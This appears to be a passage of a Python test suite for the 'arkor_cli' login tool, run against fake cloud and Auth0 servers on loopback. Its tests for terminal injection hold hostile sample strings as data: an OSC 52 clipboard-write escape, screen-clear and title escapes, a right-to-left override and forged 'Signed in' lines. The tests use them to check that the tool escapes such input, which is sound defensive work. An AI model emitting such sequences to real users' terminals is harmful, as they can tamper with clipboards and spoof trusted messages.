"""Tests for arkor_cli, against a real HTTP server on loopback.

Run with nothing installed::

    python3 -m unittest

Every test gets a temporary HOME (and USERPROFILE) and a fresh fake
cloud-api (fake_cloud.py) on 127.0.0.1. The bulk calls ``main([...])`` in
process; real subprocesses are used where the process boundary is the
point: pipes and flushing, signals, ``python -m``, terminals (a pty), other
interpreters, and the public API (``get_token()`` and the rest), which reads
the process's own environment.
"""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import re
import select
import shlex
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time
import unittest
from collections.abc import Iterator
from typing import IO, Any, Callable
from unittest import mock
from urllib.parse import parse_qs, urlencode, urlsplit

import arkor_cli
from fake_cloud import FIXTURES, TEST_CA, Answer, FakeAuth0, FakeCloudApi, browse

HERE = os.path.dirname(os.path.abspath(arkor_cli.__file__))
MODULE = os.path.join(HERE, "arkor_cli.py")
POSIX = os.name == "posix"

# The exact texts a user sees, spelled out here rather than read from the
# module: a test must fail if a message drifts from the contract.
NOT_SIGNED_IN = "Not signed in. Run `arkor login` or `arkor login --anonymous`.\n"
ANON_401 = (
    "An anonymous token works only on the device that minted it: if this file came from another"
    " machine, `arkor login --anonymous` mints a new anonymous identity (a new workspace) here.\n"
)
NUDGE = (
    "Anonymous sessions aren't guaranteed to persist \u2014 sign in with `arkor login --oauth`"
    " to tie future work to your Arkor Cloud account.\n"
)
COPIED_FIX = f"Replace {MODULE} with the latest arkor_cli.py."


def not_found(url: str, base: str, source: str = "ARKOR_CLOUD_API_URL") -> str:
    """The line under a cloud-api 404: most often a wrong base URL."""
    return (
        f"{url} was not found: is the cloud-api base URL right? It is {base} (from {source});"
        " set ARKOR_CLOUD_API_URL to the base, without /v1.\n"
    )


def server_failed(url: str, status: int) -> str:
    """The line under a cloud-api 5xx."""
    return f"The cloud-api failed at {url} ({status}); try again later.\n"


OUTPUT_LOST = (
    "The output of this command was lost (stdout could not be written), but its work stands:"
    " the stored credentials changed. Run `arkor whoami` to see them, rather than this command again.\n"
)
OAUTH_CONFIG = {
    "auth0Domain": "tenant.example.auth0.com",
    "clientId": "client-123",
    "audience": "https://api.arkor.ai",
    "callbackPorts": [52521, 52522],
}


def anon_output(anonymous_id: str, path: str, org: str) -> str:
    return (
        f"Anonymous id: {anonymous_id}\n"
        "This id is how Arkor Cloud recognises this client across sessions."
        f" Keep `{path}` to stay signed in as the same anonymous identity.\n"
        f"Signed in anonymously (personal org: {org}).\n"
    )


def reset_on_close(sock: socket.socket) -> None:
    """Make closing ``sock`` send a RST instead of a FIN (SO_LINGER 0)."""
    import struct

    linger = struct.pack("hh" if os.name == "nt" else "ii", 1, 0)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)


class _TtyText(io.StringIO):
    """Text that says it is a terminal: what a person at one would type, or see."""

    def isatty(self) -> bool:
        return True


def free_port() -> int:
    """A port on which nothing listens (bound, then released)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Case(unittest.TestCase):
    """A temporary home, a running fake cloud-api, and ways to run arkor."""

    def setUp(self) -> None:
        self.home = tempfile.mkdtemp(prefix="arkor-home-")
        self.addCleanup(shutil.rmtree, self.home, True)
        self.arkor_dir = os.path.join(self.home, ".arkor")
        self.creds = os.path.join(self.arkor_dir, "credentials.json")
        self.cloud = FakeCloudApi().start()
        self.addCleanup(self.cloud.stop)
        self.secrets: list[str] = []

    def tearDown(self) -> None:
        # No token may ever reach the terminal: checked on every run's output.
        for text in getattr(self, "_outputs", []):
            for token in list(self.cloud.tokens) + self.secrets:
                self.assertNotIn(token, text, "a token leaked into the output")

    # -- environments ----------------------------------------------------

    def env(self, **extra: str | None) -> dict[str, str]:
        """A minimal environment built from nothing (not inherited)."""
        env = {
            "HOME": self.home,
            "USERPROFILE": self.home,
            "PATH": os.environ.get("PATH", os.defpath),
            "ARKOR_CLOUD_API_URL": self.cloud.url,
        }
        if "SYSTEMROOT" in os.environ:  # Windows sockets need it
            env["SYSTEMROOT"] = os.environ["SYSTEMROOT"]
        for key, value in extra.items():
            if value is None:
                env.pop(key, None)
            else:
                env[key] = value
        return env

    def _record(self, *texts: str) -> None:
        self.__dict__.setdefault("_outputs", []).extend(texts)

    # -- ways to run -------------------------------------------------------

    def run_main(
        self,
        *argv: str,
        stdin: str = "",
        tty: bool = False,
        stdout: IO[str] | None = None,
        stdout_is_data: bool = False,
        **env: str | None,
    ) -> tuple[int, str, str]:
        """``main([...])`` in this process, on an environment and streams of
        its own: the one in-process harness. ``tty``: stdin and stdout say
        they are terminals (``stdin`` is what the person types); ``stdout``:
        a stream of the test's own, which it reads itself; ``stdout_is_data``: what
        it prints is a token by design (`arkor token`), so only stderr is checked
        for tokens."""
        text = _TtyText if tty else io.StringIO
        out = stdout if stdout is not None else text()
        err = io.StringIO()
        code = arkor_cli.main(list(argv), env=self.env(**env), stdin=text(stdin), stdout=out, stderr=err)
        shown = out.getvalue() if isinstance(out, io.StringIO) else ""
        # A token on stdout is the answer of `arkor token`: only stderr is checked then.
        self._record(err.getvalue(), *([] if stdout_is_data else [shown]))
        return code, shown, err.getvalue()

    def run_cli(
        self, *argv: str, stdin: str | None = "", timeout: float = 30, **env: str | None
    ) -> subprocess.CompletedProcess[str]:
        """``python3 arkor_cli.py ...`` as a real process."""
        proc = subprocess.run(
            [sys.executable, MODULE, *argv],
            input=stdin,
            stdin=None if stdin is not None else subprocess.DEVNULL,
            capture_output=True,
            text=True,
            env=self.env(**env),
            timeout=timeout,
            check=False,
        )
        self._record(proc.stdout, proc.stderr)
        self.assertNotIn("Traceback", proc.stderr)
        return proc

    def spawn(self, *argv: str, **env: str | None) -> subprocess.Popen[str]:
        """``python3 arkor_cli.py ...`` started, not waited for (stdin closed),
        in an environment of its own: no PYTHONUNBUFFERED, so a missing
        flush shows."""
        proc = subprocess.Popen(
            [sys.executable, MODULE, *argv],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=self.env(**env),
        )
        self.addCleanup(lambda: proc.poll() is None and proc.kill())
        return proc

    def run_python(self, code: str, timeout: float = 30, **env: str | None) -> tuple[int, str, str]:
        """``python3 -c code`` as a user's script runs, arkor_cli importable:
        in a process of its own, on an environment from env() (not inherited),
        which the public API reads as it would a script's. What the script
        prints is its data, so only its stderr is checked for tokens."""
        proc = subprocess.run(
            [sys.executable, "-c", code],
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            env=self.env(**dict({"PYTHONPATH": HERE}, **env)),
            timeout=timeout,
            check=False,
        )
        self._record(proc.stderr)
        return proc.returncode, proc.stdout, proc.stderr

    def api(self, *calls: str, **env: str | None) -> list[Any]:
        """``arkor_cli.<call>`` for each of ``calls`` (``"get_token()"``), in
        turn, in one script (run_python): what each returned, or for an
        ArkorError, ``("ArkorError", message, status)``."""
        script = ["import json", "import arkor_cli", "done = []"]
        for call in calls:
            script += [
                "try:",
                f"    done.append(['returned', arkor_cli.{call}])",
                "except arkor_cli.ArkorError as exc:",
                "    done.append(['ArkorError', exc.message, exc.status])",
            ]
        code, out, err = self.run_python("\n".join([*script, "print(json.dumps(done))\n"]), **env)
        self.assertEqual(code, 0, err)
        return [done[1] if done[0] == "returned" else tuple(done) for done in json.loads(out)]

    def wait_until(self, condition: Callable[[], object], timeout: float = 20) -> None:
        deadline = time.monotonic() + timeout
        while not condition():
            if time.monotonic() > deadline:
                self.fail("waited in vain")
            time.sleep(0.02)

    def run_tty(
        self, argv: list[str], answers: list[str | bytes | Callable[[str], str]], **env: str | None
    ) -> tuple[int, str, str]:
        """Run arkor on a pseudo-terminal (stdin and stdout), typing ``answers``.

        Each answer is typed once the output so far ends with a prompt
        (``: `` or ``] ``), as a person would, and then Enter; an answer may
        be a function of what the terminal shows so far, or bytes, typed as
        they are (which need not be text). Returns status, what the terminal
        showed (bytes that are not text as U+FFFD), and stderr (kept on a
        pipe to tell it apart).
        """
        import pty

        master, slave = pty.openpty()
        proc = subprocess.Popen(
            [sys.executable, MODULE, *argv],
            stdin=slave,
            stdout=slave,
            stderr=subprocess.PIPE,
            env=self.env(**env),
            close_fds=True,
        )
        os.close(slave)
        shown = b""
        pending = list(answers)
        deadline = time.monotonic() + 30
        try:
            while time.monotonic() < deadline:
                ready, _, _ = select.select([master], [], [], 0.1)
                if ready:
                    try:
                        chunk = os.read(master, 4096)
                    except OSError:  # EIO: the child closed the terminal
                        break
                    if not chunk:
                        break
                    shown += chunk
                    if pending and shown.rstrip().endswith((b":", b"]")):
                        answer = pending.pop(0)
                        if callable(answer):
                            answer = answer(shown.decode("utf-8", "replace").replace("\r\n", "\n"))
                        os.write(master, answer if isinstance(answer, bytes) else answer.encode() + b"\n")
                elif proc.poll() is not None:
                    break
            code = proc.wait(timeout=10)
            err = proc.stderr.read().decode() if proc.stderr else ""
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
            if proc.stderr:
                proc.stderr.close()
            os.close(master)
        text = shown.decode("utf-8", "replace").replace("\r\n", "\n")
        self._record(text, err)
        return code, text, err

    # -- the credentials file ----------------------------------------------

    def write_creds(self, data: Any) -> bytes:
        os.makedirs(self.arkor_dir, mode=0o700, exist_ok=True)
        raw = data if isinstance(data, bytes) else (json.dumps(data, indent=2) + "\n").encode()
        with open(self.creds, "wb") as f:
            f.write(raw)
        return raw

    def read_creds(self) -> Any:
        with open(self.creds, encoding="utf-8") as f:
            return json.load(f)

    def creds_bytes(self) -> bytes:
        with open(self.creds, "rb") as f:
            return f.read()

    def sign_in_anon(self, token: str = "anon-token-stored", base: str | None = None) -> dict[str, str]:
        self.cloud.add_token(token)
        data = {
            "mode": "anon",
            "token": token,
            "anonymousId": "anon-stored",
            "arkorCloudApiUrl": base or self.cloud.url,
            "orgSlug": "stored-org",
        }
        self.write_creds(data)
        return data

    def auth0_creds(self, mode: str = "oauth", token: str = "access-token-stored") -> dict[str, Any]:
        return {
            "mode": mode,
            "accessToken": token,
            "refreshToken": "refresh-token-stored",
            "expiresAt": int(time.time()) + 3600,
            # Nothing listens there: what reaches Auth0 is refused at once.
            "auth0Domain": f"127.0.0.1:{free_port()}",
            "audience": "https://api.arkor.ai",
            "clientId": "client-123",
            "arkorCloudApiUrl": self.cloud.url,
        }

    def leftovers(self) -> list[str]:
        """Files in ~/.arkor other than the credentials and their lock (temp files, say)."""
        if not os.path.isdir(self.arkor_dir):
            return []
        return sorted(n for n in os.listdir(self.arkor_dir) if n not in ("credentials.json", "credentials.json.lock"))


class OAuthCase(Case):
    def setUp(self) -> None:
        super().setUp()
        self.auth0 = FakeAuth0(self.cloud).start()
        self.addCleanup(self.auth0.stop)
        self.ports = [free_port(), free_port()]
        self.cloud.config = self.auth0.cli_config(self.ports)
        self.browser_log = os.path.join(self.home, "browser.log")

    def tearDown(self) -> None:
        self.secrets.extend(self.auth0.handed_out())
        # Reap the fake browsers that in-process logins started.
        while arkor_cli._BROWSER_PROCESSES:
            child = arkor_cli._BROWSER_PROCESSES.pop()
            try:
                child.wait(timeout=15)
            except subprocess.TimeoutExpired:
                child.kill()
                child.wait()
        super().tearDown()

    def env(self, **extra: str | None) -> dict[str, str]:
        base: dict[str, str | None] = {"SSL_CERT_FILE": TEST_CA, "FAKE_BROWSER_LOG": self.browser_log}
        base.update(extra)
        return super().env(**base)

    def browser_saw(self, timeout: float = 15) -> tuple[int, str]:
        """What the fake browser ended on: the callback's status and page."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if os.path.exists(self.browser_log):
                with open(self.browser_log, encoding="utf-8") as f:
                    status, _, page = f.read().partition("\n")
                if status:
                    return int(status), page
            time.sleep(0.05)
        self.fail("the browser never reported")

    def sign_in_oauth(self, expires_in: int = 3600, mode: str = "oauth") -> dict[str, Any]:
        """Credentials as a sign-in with the fake Auth0 leaves them, whose
        access token expires in ``expires_in`` seconds."""
        tokens = self.auth0._issue(refresh=True)  # registered with the fake cloud-api too
        data = {
            "mode": mode,
            "accessToken": tokens["access_token"],
            "refreshToken": tokens["refresh_token"],
            "expiresAt": int(time.time()) + expires_in,
            "auth0Domain": self.auth0.domain,
            "audience": self.auth0.audience,
            "clientId": self.auth0.client_id,
            "arkorCloudApiUrl": self.cloud.url,
        }
        self.write_creds(data)
        return data

    def forget_browser(self) -> None:
        if os.path.exists(self.browser_log):
            os.remove(self.browser_log)

    def start_login(self, *extra: str, **env: str | None) -> tuple[subprocess.Popen[str], str, dict[str, str]]:
        """``login --oauth --no-browser`` as a real process, read up to its
        ``Browser:`` line: the URL must arrive through a pipe while it waits."""
        proc = self.spawn("login", "--oauth", "--no-browser", *extra, **env)
        self.addCleanup(lambda: proc.poll() is None and proc.kill())
        assert proc.stdout is not None
        ready, _, _ = select.select([proc.stdout], [], [], 20)
        self.assertTrue(ready, "no Browser: line while the login waits")
        # A byte at a time, so that nothing after the line is read ahead into
        # a buffer that finish()'s communicate() would not see.
        raw = b""
        while not raw.endswith(b"\n"):
            byte = os.read(proc.stdout.fileno(), 1)
            if not byte:
                break
            raw += byte
        line = raw.decode()
        self.assertTrue(line.startswith("Browser: https://"), line)
        url = line[len("Browser: ") :].strip()
        return proc, url, {k: v[0] for k, v in parse_qs(urlsplit(url).query).items()}

    def finish(self, proc: subprocess.Popen[str]) -> tuple[int, str, str]:
        out, err = proc.communicate(timeout=30)
        self._record(out, err)
        self.assertNotIn("Traceback", err)
        return proc.returncode, out, err

    def callback(self, port: int, target: str, host: str | None = None) -> tuple[int, dict[str, str], bytes]:
        """A request to the loopback listener, as a browser would send it."""
        import http.client

        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        try:
            conn.request("GET", target, headers={"Host": host} if host else {})
            response = conn.getresponse()
            return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
        finally:
            conn.close()

    def login_denied(self, description: str) -> tuple[tuple[int, dict[str, str], bytes], int, str]:
        """A login whose browser comes back with access_denied and this
        description: the listener's answer, then the exit status and stderr."""
        proc, _, _ = self.start_login()
        query = urlencode({"error": "access_denied", "error_description": description})
        answer = self.callback(self.ports[0], "/callback?" + query)
        code, _, err = self.finish(proc)
        return answer, code, err

    def assert_port_closed(self, port: int) -> None:
        with socket.socket() as s:
            s.settimeout(5)
            with self.assertRaises(ConnectionRefusedError, msg=f"something still listens on {port}"):
                s.connect(("127.0.0.1", port))


# ---------------------------------------------------------------------------
# Shared helpers: what several test classes use
# ---------------------------------------------------------------------------


def fake_browser(linger: float = 0) -> str:
    """A BROWSER command that fetches the page and follows it to the callback."""
    here = os.path.join(HERE, "fake_cloud.py")
    return f'"{sys.executable}" "{here}" browse %s' + (f" {linger:g}" if linger else "")


def can_mount_tmpfs() -> bool:
    """Root on Linux with mount(8) allowed (CI here): tiny and read-only filesystems."""
    if not sys.platform.startswith("linux") or os.geteuid() != 0 or not shutil.which("mount"):
        return False
    probe = tempfile.mkdtemp()
    try:
        ok = subprocess.run(
            ["mount", "-t", "tmpfs", "-o", "size=16k", "tmpfs", probe], capture_output=True, check=False
        )
        if ok.returncode != 0:
            return False
        subprocess.run(["umount", probe], check=False)
        return True
    finally:
        os.rmdir(probe)


def _files_call_guarded(
    case: unittest.TestCase, call: Callable[[], Any], timeout: float = 10, fifo: str | None = None
) -> Any:
    """``call()`` in a thread that must end within ``timeout`` seconds: a call
    that blocks (on a FIFO, on a server that never answers) fails the test
    instead of hanging the suite. A ``fifo`` it may block on is then opened
    for writing, which lets a blocked open go on. Returns what ``call``
    returned, or raises what it raised."""
    import threading

    outcome: list[Any] = []

    def run() -> None:
        try:
            outcome.append(("value", call()))
        except BaseException as exc:  # noqa: BLE001 - re-raised in the test's thread
            outcome.append(("raised", exc))

    thread = threading.Thread(target=run, name="files-guarded", daemon=True)
    thread.start()
    thread.join(timeout)
    if thread.is_alive():
        if fifo is not None:
            fd = os.open(fifo, os.O_RDWR | os.O_NONBLOCK)  # a writer: the blocked open returns, then reads EOF
            os.close(fd)
            thread.join(10)
        case.fail(f"still running after {timeout:g} s")
    kind, value = outcome[0]
    if kind == "raised":
        raise value
    return value


# -- Logins in this process, with a browser in a thread (no processes) ------


def _login_run(
    case: Case, *argv: str, browser: Callable[[str], Any] | None = None, **env: str | None
) -> tuple[int, str, str, Any]:
    """``main(["login", *argv])`` in this process, as ``run_main`` runs it.

    Once the login has printed its ``Browser:`` line (and so listens),
    ``browser(url)`` runs in a thread, as a person's browser would; what it
    returns comes back last (None without a browser). It must end the
    login, or the login's own ``--timeout`` does.
    """
    import threading

    out = io.StringIO()
    results: list[Any] = []
    failures: list[BaseException] = []
    over = threading.Event()

    def act() -> None:
        while True:
            found = re.search(r"^Browser: (\S+)\n", out.getvalue(), re.MULTILINE)
            if found:
                try:
                    assert browser is not None
                    results.append(browser(found.group(1)))
                except BaseException as exc:  # noqa: BLE001 - raised again in the test's thread
                    failures.append(exc)
                return
            if over.wait(0.005):
                return  # the login ended without listening

    thread = threading.Thread(target=act, name="test-browser", daemon=True)
    if browser is not None:
        thread.start()
    try:
        code, _, err = case.run_main("login", *argv, stdout=out, **env)
    finally:
        over.set()
        if browser is not None:
            thread.join(30)
    case._record(out.getvalue())
    if failures:
        raise failures[0]
    return code, out.getvalue(), err, results[0] if results else None


def _login_query(url: str) -> dict[str, str]:
    """The query parameters of ``url``, one value each."""
    return {k: v[0] for k, v in parse_qs(urlsplit(url).query).items()}


def _login_browser_url(shown: str) -> str:
    """The URL of the ``Browser:`` line in what a terminal showed."""
    found = re.search(r"^Browser: (\S+)$", shown, re.MULTILINE)
    assert found, shown
    return found.group(1)


def _login_redirect(url: str, **change: str | None) -> str:
    """Where Auth0 sends the browser from the sign-in ``url`` (its Location),
    not followed to the listener: the address a browser on another machine
    ends on, to paste. ``change`` sets (or, with None, drops) parameters."""
    import ssl
    import urllib.error
    import urllib.request

    class Stay(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args: Any) -> None:
            return None

    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({}),
        urllib.request.HTTPSHandler(context=ssl.create_default_context(cafile=TEST_CA)),
        Stay(),
    )
    try:
        opener.open(url, timeout=10).close()
    except urllib.error.HTTPError as exc:
        location = str(exc.headers["Location"])
    else:
        raise AssertionError(f"{url} did not redirect")
    parts = urlsplit(location)
    query = {k: v for k, v in dict(_login_query(location), **change).items() if v is not None}
    return parts._replace(query=urlencode(query)).geturl()


def _login_spawn_waiting(case: OAuthCase, *argv: str, **env: str | None) -> tuple[subprocess.Popen[str], str, str]:
    """``login --oauth --no-browser *argv`` as a process, read up to the line
    saying that no browser was opened (it then waits for the browser): the
    process, the sign-in URL, and what it printed. Read from the pipe's
    descriptor, unbuffered: ``finish()`` then gets every byte that follows."""
    proc = case.spawn("login", "--oauth", "--no-browser", *argv, **env)
    assert proc.stdout is not None and proc.stderr is not None
    case.addCleanup(proc.stdout.close)  # also when the test fails before finish()
    case.addCleanup(proc.stderr.close)
    seen = b""
    deadline = time.monotonic() + 20
    while not re.search(rb"^No browser was opened\..*\n", seen, re.MULTILINE):
        ready, _, _ = select.select([proc.stdout], [], [], max(0.0, deadline - time.monotonic()))
        case.assertTrue(ready, f"the login printed no more than {seen!r}")
        chunk = os.read(proc.stdout.fileno(), 4096)
        case.assertTrue(chunk, f"the login ended after {seen!r}")
        seen += chunk
    return proc, _login_browser_url(seen.decode()), seen.decode()


@contextlib.contextmanager
def _login_tty_keys() -> Iterator[Callable[[bytes], None]]:
    """Around ``run_tty``: a function that an answer may call to type raw
    bytes first (what an answer's text cannot carry: bytes that are not
    UTF-8, or Ctrl-D without the Enter that follows every answer). The
    terminal stops echoing from then on, so that the Enter's echo cannot
    pass for a line break the command wrote, and no raw byte reaches what
    the terminal showed."""
    import pty
    import termios

    masters: list[int] = []
    openpty = pty.openpty

    def recording() -> tuple[int, int]:
        master, slave = openpty()
        masters.append(master)
        return master, slave

    def keys(data: bytes) -> None:
        attributes = termios.tcgetattr(masters[-1])
        attributes[3] &= ~termios.ECHO  # lflag
        termios.tcsetattr(masters[-1], termios.TCSANOW, attributes)
        os.write(masters[-1], data)

    with mock.patch.object(pty, "openpty", recording):
        yield keys


def _login_main_on_tty(case: Case, *argv: str, typed: str = "", **env: str | None) -> tuple[int, str, str]:
    """``main([...])`` in this process with stdin and stdout as terminals
    (``typed`` is what the person types), stderr a pipe, and no colour:
    for what a terminal changes that needs no real one."""
    return case.run_main(*argv, stdin=typed, tty=True, **dict({"NO_COLOR": "1"}, **env))


# ---------------------------------------------------------------------------
# Terminal output: one line per line, whatever the text holds
# ---------------------------------------------------------------------------


class ContextTest(unittest.TestCase):
    """The bounds and the one "can we ask?" that a run's context derives from
    its environment and streams (SPEC 1, 3.1, 8)."""

    @staticmethod
    def context(tty: bool = False, **env: str) -> Any:
        text = _TtyText if tty else io.StringIO
        return arkor_cli._Context(arkor_cli._Terminal(text(), text(), io.StringIO(), env), env)

    def test_the_bounds_follow_the_http_timeout(self) -> None:
        for timeout, revoke, lock in ((None, 5.0, 35.0), ("0.2", 0.2, 0.4), ("2", 2.0, 4.0), ("60", 5.0, 65.0)):
            with self.subTest(timeout=timeout):
                ctx = self.context(**({} if timeout is None else {"ARKOR_HTTP_TIMEOUT": timeout}))
                self.assertEqual((ctx.revoke_timeout(), ctx.lock_wait()), (revoke, lock))

    def test_a_question_needs_a_terminal_and_no_ci(self) -> None:
        self.assertTrue(self.context(tty=True).can_ask())
        self.assertFalse(self.context(tty=False).can_ask())
        self.assertFalse(self.context(tty=True, CI="true").can_ask())
        self.assertTrue(self.context(tty=True, CI="").can_ask())  # set but empty: not CI


class PrintableTest(unittest.TestCase):
    """The choke point of TerminalInjectionTest: _printable, and the
    _Terminal every line goes through."""

    def test_printable_escapes_line_breaks_controls_and_format_characters(self) -> None:
        cases = {
            "a\nb": "a\\u000ab",
            "a\rb": "a\\u000db",
            "\x1b[2J": "\\u001b[2J",
            "org\u202elive": "org\\u202elive",  # right-to-left override
            "a\u2028b": "a\\u2028b",  # line separator
            "a\x85b": "a\\u0085b",  # next line (C1)
            "a\x9b2J": "a\\u009b2J",  # a one-byte CSI
            "a\ud800b": "a\\ud800b",  # a lone surrogate (a file read with surrogateescape)
            "a\U000e0001b": "a\\udb40\\udc01b",  # an astral format character: a surrogate pair, as JSON writes it
            "tab\there": "tab\\u0009here",
            "caf\u00e9 \U0001f600 \\n": "caf\u00e9 \U0001f600 \\n",  # printable: as it is
        }
        for text, shown in cases.items():
            with self.subTest(text=text):
                self.assertEqual(arkor_cli._printable(text), shown)

    def test_every_terminal_method_prints_one_line_per_argument(self) -> None:
        hostile = f"a{INJECTED}\r\x1b[2K\u2028b\x85c\x1b]52;c;ZXZpbA==\x07"
        shown = "a\\u000aFORGED: Signed in\\u000d\\u001b[2K\\u2028b\\u0085c\\u001b]52;c;ZXZpbA==\\u0007"
        stdin, out, err = io.StringIO("yes\nno\n"), io.StringIO(), io.StringIO()
        term = arkor_cli._Terminal(stdin, out, err, {})
        term.info(hostile, hostile)
        term.success(hostile)
        term.note(hostile)
        term.warn(hostile)
        term.error(hostile, hostile)
        answer = term.ask(hostile)  # stdout is no terminal: the question goes to stderr, with no line break
        self.assertEqual(answer, "yes")
        self.assertEqual(out.getvalue(), f"{shown}\n" * 3)
        self.assertEqual(err.getvalue(), f"{shown}\n" * 4 + shown)

    def test_nothing_writes_around_the_terminal(self) -> None:
        # No print(), and no .write() but _Terminal._write's, the credentials
        # file's and the callback page's (to the browser): a raw write to a
        # stream would skip _printable.
        import ast

        with open(MODULE, encoding="utf-8") as f:
            tree = ast.parse(f.read())
        writes = []
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                func = node.func
                self.assertFalse(isinstance(func, ast.Name) and func.id == "print", f"print() on line {node.lineno}")
                if isinstance(func, ast.Attribute) and func.attr in ("write", "writelines"):
                    writes.append(ast.unparse(func.value))
        self.assertEqual(sorted(writes), ["f", "self.wfile", "stream"])


class ColourTest(Case):
    """Colour only on a terminal, without NO_COLOR, and not on a dumb one."""

    def test_colour_only_where_a_terminal_renders_it(self) -> None:
        for env, coloured in (
            ({"TERM": "xterm-256color"}, True),
            ({"TERM": "dumb"}, False),  # Emacs' shell, some CI log viewers: escapes shown as text
            ({"TERM": "xterm-256color", "NO_COLOR": "1"}, False),
        ):
            with self.subTest(env=env):
                if os.path.exists(self.creds):
                    os.remove(self.creds)  # no question about replacing it
                code, out, err = self.run_main("login", "--anonymous", tty=True, **env)
                self.assertEqual((code, err), (0, ""))
                last = out.splitlines()[-1]
                self.assertEqual(last.startswith("\x1b[32mSigned in anonymously"), coloured, last)
                self.assertEqual("\x1b" in out, coloured, out)


# What a hostile server or file puts in a field: a line that would pass for
# arkor's own, were the line break printed raw.
INJECTED = "\nFORGED: Signed in"


class TerminalInjectionTest(OAuthCase):
    """Text from servers and callbacks reaches the terminal with its control
    and format characters escaped: it cannot start a line of its own,
    rewrite the screen, the title or the clipboard, nor reverse a name."""

    OSC52 = "\x1b]52;c;ZXZpbA==\x07"  # "write 'evil' to the clipboard"

    def assert_no_forged_line(self, text: str, *prefixes: str) -> None:
        """Every line of ``text`` (split at every line break Python knows)
        starts with one of ``prefixes``; FORGED is there, right after an
        escape, never at the start of a line."""
        self.assertIn("FORGED", text)
        for line in text.splitlines():
            self.assertTrue(line.startswith(prefixes), f"a line of its own: {line!r}")
        for match in re.finditer("FORGED", text):
            self.assertRegex(text[: match.start()], r"\\u[0-9a-f]{4} ?\Z")

    def test_anonymous_identity_fields(self) -> None:
        minted = self.cloud.mint_anonymous()
        minted["anonymousId"] = f"id{self.OSC52}"
        minted["personalOrg"]["slug"] = "org\u202elive"  # right-to-left override
        self.cloud.script("POST", "/v1/auth/anonymous", Answer(201, minted))
        code, out, _ = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        self.assertIn("Anonymous id: id\\u001b]52;c;ZXZpbA==\\u0007\n", out)
        self.assertIn("(personal org: org\\u202elive).", out)
        self.assertNotIn("\x1b", out)
        self.assertEqual(self.read_creds()["anonymousId"], f"id{self.OSC52}")  # stored as given

    def test_whoami_output(self) -> None:
        self.sign_in_anon()
        user = {
            "name": "Ada\x9b2J",
            "bio": f"hi{self.OSC52}",
            "title": "x\u2028FORGED: Signed in",
            "motto": "y\x85FORGED",
        }
        body = {"user": user, "orgs": [{"slug": "\x1b[31mred"}, {"slug": f"o{INJECTED}"}]}
        self.cloud.script("GET", "/v1/me", Answer(200, body))
        code, out, _ = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assertNotIn("\x1b", out)
        self.assertNotIn("\x9b", out)
        self.assertIn('\n  "name": "Ada\\u009b2J",\n', out)
        # JSON leaves U+2028 and U+0085 as they are: still no line of their own.
        self.assertIn('\n  "title": "x\\u2028FORGED: Signed in",\n  "motto": "y\\u0085FORGED"\n}\n', out)
        self.assertTrue(out.endswith("Orgs: \\u001b[31mred, o\\u000aFORGED: Signed in\n"), out)
        self.assert_no_forged_line(out, "{", '  "', "}", "Orgs: ")
        code, out, _ = self.run_main("whoami", "--json")
        self.assertEqual(json.loads(out), body)  # escaped, and still the same JSON

    def test_error_bodies_and_callback_text(self) -> None:
        # A quoted body is its first line alone: the rest is never shown.
        self.cloud.script("POST", "/v1/auth/anonymous", Answer(500, body=b"\x1b[2Jgone\r FORGED: Signed in"))
        code, _, err = self.run_main("login", "--anonymous")
        url = f"{self.cloud.url}/v1/auth/anonymous"
        self.assertEqual((code, err), (1, f"POST {url} failed (500): \\u001b[2Jgone\n" + server_failed(url, 500)))
        _, code, err = self.login_denied(f"\x1b[2J\x1b]0;owned\x07{INJECTED}")
        denied = "Authentication failed: access_denied. \\u001b[2J\\u001b]0;owned\\u0007\\u000aFORGED: Signed in"
        self.assertEqual((code, err), (1, f"Login failed\n{denied}\n"))

    def test_unsupported_version_body(self) -> None:
        body = {
            "error": "sdk_version_unsupported",
            "currentVersion": f"0.2.0{INJECTED}",
            "supportedRange": f">=9\r{INJECTED}",
        }
        self.cloud.script("POST", "/v1/auth/anonymous", Answer(426, body))
        code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(
            err,
            "Arkor SDK 0.2.0\\u000aFORGED: Signed in is no longer supported by the cloud API"
            f" (supported: >=9\\u000d\\u000aFORGED: Signed in). {COPIED_FIX}\n",
        )
        self.assert_no_forged_line(err, "Arkor SDK ")

    def test_refused_refresh_error(self) -> None:
        self.sign_in_oauth(expires_in=0)  # due for renewal
        self.auth0.script("POST", "/oauth/token", Answer(403, {"error": f"invalid_grant{INJECTED}"}))
        code, out, err = self.run_main("whoami")
        self.assertEqual(code, 0)  # the stored token still works
        self.assertEqual(
            err,
            "The session could not be renewed (Auth0: invalid_grant\\u000aFORGED: Signed in)."
            " Sign in again with `arkor login --oauth`.\n",
        )
        self.assert_no_forged_line(err, "The session could not be renewed (Auth0: invalid_grant")
        self.assertTrue(out.endswith("\nOrgs: ada-personal, analytical\n"), out)

    def test_stored_anonymous_id_in_the_logout_warning(self) -> None:
        self.write_creds(
            {"mode": "anon", "token": "anon-token-stored", "anonymousId": f"anon{INJECTED}", "orgSlug": "o"}
        )
        code, out, err = self.run_main("logout", "-y")
        self.assertEqual(
            (code, out, err),
            (
                0,
                f"Removed {self.creds}.\n",
                "The anonymous identity anon\\u000aFORGED: Signed in cannot be restored once deleted.\n",
            ),
        )
        self.assert_no_forged_line(err, "The anonymous identity anon")
        self.assertFalse(os.path.exists(self.creds))

    def test_folded_deprecation_headers(self) -> None:
        # An obsolete folded header (RFC 9112 §5.2): its line break reaches
        # the value that the end-of-command warning quotes.
        self.sign_in_anon()
        headers = {
            "Deprecation": "true",
